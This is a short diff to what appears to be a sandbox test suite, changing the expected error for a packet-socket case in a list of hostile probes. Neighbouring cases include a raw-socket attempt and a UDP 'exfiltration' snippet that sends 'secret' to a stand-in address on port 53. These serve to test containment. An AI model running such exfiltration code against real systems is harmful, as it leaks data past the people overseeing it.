@@ -85,7 +85,7 @@ HOSTILE = [
     ("raw socket", PY, "import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n"
      "except OSError as e:\n    print('raw', e.errno)\n", {}, {"ok"}, "raw 1", None),
     ("packet socket", PY, "import socket\ntry:\n    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)\n"
-     "except OSError as e:\n    print('packet', e.errno)\n", {}, {"ok"}, "packet 1", None),
+     "except OSError as e:\n    print('packet', e.errno)\n", {}, {"ok"}, "packet 97", None),
     ("udp exfiltration", PY, "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
      "try:\n    s.sendto(b'secret', ('192.0.2.1', 53)); print('SENT')\nexcept OSError as e:\n"
      "    print('udp', e.errno)\n", {}, {"ok"}, "udp 101", "SENT"),
